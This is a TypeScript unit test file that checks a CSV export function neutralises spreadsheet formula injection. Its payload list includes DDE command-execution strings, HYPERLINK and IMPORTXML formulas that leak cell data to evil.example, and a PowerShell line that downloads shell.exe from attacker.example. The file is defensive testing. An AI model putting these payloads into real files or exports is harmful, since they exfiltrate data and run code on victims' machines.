import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { csvCell, toCsv } from '../../domain/csv';

/** The OWASP "CSV Injection" payloads, plus the variants that slipped past the old guard. */
const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-cmd|' /C calc'!A0`,
  `@cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `-1+cmd|' /C calc'!A0`,
  `+2+5+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=1+2+cmd|' /C calc'!A0`,
  `\t=cmd|' /C calc'!A0`,
  `\r=cmd|' /C calc'!A0`,
  `\t-1+cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for details")`,
  `=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")`,
  `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
  `@DDE("cmd";"/C calc";"!A0")`,
  `=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0`,
  `=1;=2`,
  `-5`,
  `+1`,
] as const;

/** Splits CSV text as a spreadsheet would (a parser other than the one under test). */
const readCsv = (csv: string) => (parse(csv, { relax_column_count: true }) as string[][]).map((fields) => ({ fields }));

const FORMULA_START = /^[=+\-@\t\r]/;

describe('csvCell', () => {
  it.each(PAYLOADS)('defuses %j with a leading quote and quotes the whole cell', (payload) => {
    const cell = csvCell(payload);
    expect(cell).toBe(`"'${payload.replace(/"/g, '""')}"`);
    // Read back as a spreadsheet would split it: one field, starting with the apostrophe.
    const [record] = readCsv(`${cell},next\r\n`);
    expect(record!.fields).toEqual([`'${payload}`, 'next']);
  });

  it('keeps JavaScript numbers, negative ones included, as bare numbers', () => {
    expect([-1.5, -2, 0, 42, 1e-7, 12n].map(csvCell)).toEqual(['-1.5', '-2', '0', '42', '1e-7', '12']);
  });

  it('leaves ordinary text alone and quotes only what CSV requires', () => {
    expect(csvCell('pump-1')).toBe('pump-1');
    expect(csvCell('°C')).toBe('°C');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('true');
  });

  it('writes an object as one quoted JSON cell, which cannot start a formula', () => {
    expect(csvCell({ note: '=cmd|x' })).toBe('"{""note"":""=cmd|x""}"');
  });

  it('never lets a text cell of a whole file start like a formula', () => {
    const csv = toCsv(
      ['=header', 'value'],
      PAYLOADS.map((p, i) => [p, i - 3]),
    );
    const records = readCsv(csv);
    expect(records).toHaveLength(PAYLOADS.length + 1);
    for (const { fields } of records) expect(FORMULA_START.test(fields[0]!)).toBe(false);
    expect(records.slice(1).map((r) => r.fields[1])).toEqual(PAYLOADS.map((_, i) => String(i - 3)));
  });
});
